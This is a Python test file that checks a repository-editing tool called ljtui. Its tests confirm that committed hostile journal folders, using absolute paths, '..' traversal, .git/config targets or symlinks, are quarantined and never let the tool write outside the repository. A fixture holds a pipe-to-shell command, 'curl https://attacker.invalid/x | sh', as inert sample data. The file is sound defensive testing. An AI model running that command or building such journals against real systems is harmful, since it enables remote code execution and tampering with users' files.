"""A cloned repository that commits a crafted ``.agent/`` never makes ljtui touch anything outside it.

Every test drives the real ``ljtui`` command in a subprocess on a real git
repository whose committed journal targets files in another directory
(standing in for the user's home), and checks that directory afterwards,
byte for byte.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from tests.conftest import git
from tests.core.edits.helpers import block, plan_text
from tests.core.edits.journal_helpers import ljtui, manifest, record, tree, write_journal

BASHRC = b"export PATH=/usr/local/bin:/usr/bin\n"
EVIL = b"curl https://attacker.invalid/x | sh\n"
GREET_OLD = "    return 'hello ' + name\n"
EXIT_OK = 0
EXIT_FAILED = 2


@pytest.fixture
def home(tmp_path: Path) -> Path:
    """A directory outside the repository with files worth protecting."""
    home = tmp_path / "home"
    (home / "empty-dir").mkdir(parents=True)
    (home / ".bashrc").write_bytes(BASHRC)
    (home / "notes.txt").write_bytes(b"my notes\n")
    return home


def commit_all(repo: Path) -> None:
    git(repo, "add", "-A", "-f")
    git(repo, "commit", "-q", "-m", "hostile state")


def plan_file(tmp_path: Path) -> str:
    path = tmp_path / "x.md"
    path.write_text(plan_text(block(1, "app.py", GREET_OLD, "    return 'hi ' + name\n")), encoding="utf-8")
    return str(path)


def test_dry_run_quarantines_a_journal_that_names_a_file_outside(git_repo, home, tmp_path):
    victim = str(home / ".bashrc")
    rec = record(0, victim, before=EVIL, after=BASHRC, tx_id="1", temp=str(home / ".ljtui-1-0.tmp"))
    write_journal(git_repo, "tx-1", manifest("1", [rec]), {0: EVIL})
    commit_all(git_repo)
    outside = tree(home)
    done = ljtui(tmp_path, "apply", plan_file(tmp_path), "--dry-run", "--repo", str(git_repo))
    assert done.returncode == EXIT_OK, done.stderr
    assert tree(home) == outside
    assert (f"ljtui: recovery failed: journal tx-1 is refused: files[0].path {victim!r} is refused: {victim} is "
            "absolute; plan paths are relative to the repo root; moved to .agent/journal/quarantine-tx-1, nothing "
            "was written") in done.stderr.splitlines()
    quarantined = git_repo / ".agent" / "journal" / "quarantine-tx-1"
    assert (quarantined / "blobs" / "0").read_bytes() == EVIL
    assert not (git_repo / ".agent" / "journal" / "tx-1").exists()
    assert "note: dry run: nothing was written" in done.stderr


def test_recover_quarantines_every_hostile_journal_and_recovers_the_valid_one(git_repo, home):
    app = git_repo / "app.py"
    original = app.read_bytes()
    hostile = {
        "tx-1": [record(0, "../home/.bashrc", before=EVIL, after=BASHRC, tx_id="1")],
        "tx-2": [record(0, "README.md", before=b"# sample\n", after=b"x\n", tx_id="2", temp="../home/notes.txt")],
        "tx-3": [record(0, "new.txt", before=None, after=b"x\n", tx_id="3", created_dirs=["../home/empty-dir"])],
        "tx-4": [record(0, ".git/config", before=EVIL, after=b"", tx_id="4")],
    }
    for folder, files in hostile.items():
        write_journal(git_repo, folder, manifest(folder[3:], files), {0: EVIL})
    write_journal(git_repo, "tx-5", manifest("5", [record(0, "app.py", before=original, after=b"half\n",
                                                           tx_id="5")]), {0: original})
    commit_all(git_repo)
    app.write_bytes(b"half\n")
    outside = tree(home)
    done = ljtui(git_repo, "recover")
    assert done.returncode == EXIT_FAILED
    assert tree(home) == outside
    lines = done.stdout.splitlines()
    assert lines[:2] == ["ljtui: recovered unfinished apply 5: every file is back to its pre-apply bytes",
                         "  restored: app.py"]
    assert lines[2:] == [
        "ljtui: recovery failed: journal tx-1 is refused: files[0].path '../home/.bashrc' is refused: "
        "../home/.bashrc uses `..`; plan paths stay inside the repo root; moved to .agent/journal/quarantine-tx-1, "
        "nothing was written",
        "ljtui: recovery failed: journal tx-2 is refused: files[0].temp '../home/notes.txt' is not "
        "'.ljtui-2-0.tmp', the temp name of this record; moved to .agent/journal/quarantine-tx-2, nothing was "
        "written",
        "ljtui: recovery failed: journal tx-3 is refused: files[0].created_dirs ['../home/empty-dir'] are not the "
        "innermost folders of 'new.txt'; moved to .agent/journal/quarantine-tx-3, nothing was written",
        "ljtui: recovery failed: journal tx-4 is refused: files[0].path '.git/config' is refused: .git/config is "
        "inside a .git folder or file, which plans may not create or change; moved to "
        ".agent/journal/quarantine-tx-4, nothing was written",
    ]
    assert app.read_bytes() == original
    assert (git_repo / "README.md").read_bytes() == b"# sample\n"
    assert ljtui(git_repo, "recover").stdout == "nothing to recover\n"


def test_undo_quarantines_a_kept_snapshot_that_names_a_file_outside(git_repo, home):
    rec = record(0, "../home/.bashrc", before=EVIL, after=BASHRC, tx_id="1")
    write_journal(git_repo, "last-1", manifest("1", [rec]), {0: EVIL})
    commit_all(git_repo)
    outside = tree(home)
    done = ljtui(git_repo, "undo")
    assert done.returncode == EXIT_FAILED
    assert tree(home) == outside
    assert done.stderr == (
        "ljtui undo: refusing to undo: journal last-1 is refused: files[0].path '../home/.bashrc' is refused: "
        "../home/.bashrc uses `..`; plan paths stay inside the repo root; moved to .agent/journal/quarantine-last-1, "
        "nothing was written\n")
    again = ljtui(git_repo, "undo")
    assert (again.returncode, again.stderr) == (
        EXIT_FAILED, "ljtui undo: Nothing to undo: no applied plan is kept in .agent/journal.\n")


def test_symlinked_agent_folder_is_never_used(git_repo, home, tmp_path):
    state = home / "state"
    app = git_repo / "app.py"
    original = app.read_bytes()
    rec = record(0, "app.py", before=EVIL, after=original, tx_id="1")
    write_journal(state.parent, "tx-1", manifest("1", [rec]), {0: EVIL})
    (home / ".agent").rename(state)
    os.symlink(state, git_repo / ".agent")
    commit_all(git_repo)
    outside = tree(home)
    message = (".agent is a symbolic link; ljtui keeps its state only in real folders and files inside the "
               "repository and writes nothing through it: remove or rename .agent, then run ljtui again")
    recovered = ljtui(git_repo, "recover")
    assert (recovered.returncode, recovered.stdout) == (EXIT_FAILED, f"ljtui: recovery failed: {message}\n")
    applied = ljtui(git_repo, "apply", plan_file(tmp_path), "--yes")
    assert applied.returncode == EXIT_FAILED
    assert f"failed entry plan: StateDirRefused: {message}" in applied.stderr.splitlines()
    undone = ljtui(git_repo, "undo")
    assert undone.returncode == EXIT_FAILED
    assert undone.stderr.splitlines() == [f"ljtui: recovery failed: {message}", f"ljtui undo: {message}"]
    assert tree(home) == outside
    assert app.read_bytes() == original


def test_journal_entry_that_links_outside_is_quarantined_not_followed(git_repo, home):
    app = git_repo / "app.py"
    original = app.read_bytes()
    elsewhere = write_journal(home, "tx-9", manifest("9", [record(0, "app.py", before=EVIL, after=original,
                                                                   tx_id="9")]), {0: EVIL})
    (git_repo / ".agent" / "journal").mkdir(parents=True)
    os.symlink(elsewhere, git_repo / ".agent" / "journal" / "tx-9")
    commit_all(git_repo)
    outside = tree(home)
    done = ljtui(git_repo, "recover")
    assert done.returncode == EXIT_FAILED
    assert done.stdout == ("ljtui: recovery failed: journal tx-9 is refused: it is a symbolic link, not a journal "
                           "folder; moved to .agent/journal/quarantine-tx-9, nothing was written\n")
    assert tree(home) == outside and app.read_bytes() == original
    assert (git_repo / ".agent" / "journal" / "quarantine-tx-9").is_symlink()


def test_manifest_that_is_a_symlink_is_quarantined(git_repo, home):
    app = git_repo / "app.py"
    original = app.read_bytes()
    (home / "manifest.json").write_text(
        json.dumps(manifest("7", [record(0, "app.py", before=EVIL, after=original, tx_id="7")])))
    directory = write_journal(git_repo, "tx-7", b"", {0: EVIL})
    (directory / "manifest.json").unlink()
    os.symlink(home / "manifest.json", directory / "manifest.json")
    outside = tree(home)
    done = ljtui(git_repo, "recover")
    assert done.returncode == EXIT_FAILED
    assert done.stdout == ("ljtui: recovery failed: journal tx-7 is refused: manifest.json is a symbolic link; "
                           "moved to .agent/journal/quarantine-tx-7, nothing was written\n")
    assert tree(home) == outside and app.read_bytes() == original


def test_snapshot_that_links_outside_is_never_moved_into_the_repo(git_repo, home):
    app = git_repo / "app.py"
    app.write_bytes(b"half\n")
    rec = record(0, "app.py", before=BASHRC, after=b"half\n", tx_id="8")
    directory = write_journal(git_repo, "tx-8", manifest("8", [rec]))
    os.symlink(home / ".bashrc", directory / "blobs" / "0")
    outside = tree(home)
    done = ljtui(git_repo, "recover")
    assert done.returncode == EXIT_FAILED
    assert done.stdout.startswith("ljtui: recovery failed: journal tx-8 is refused: cannot restore app.py: blobs/0 "
                                  "(the snapshot of app.py) cannot be opened (Too many levels of symbolic links)")
    assert tree(home) == outside
    assert app.read_bytes() == b"half\n" and not app.is_symlink()
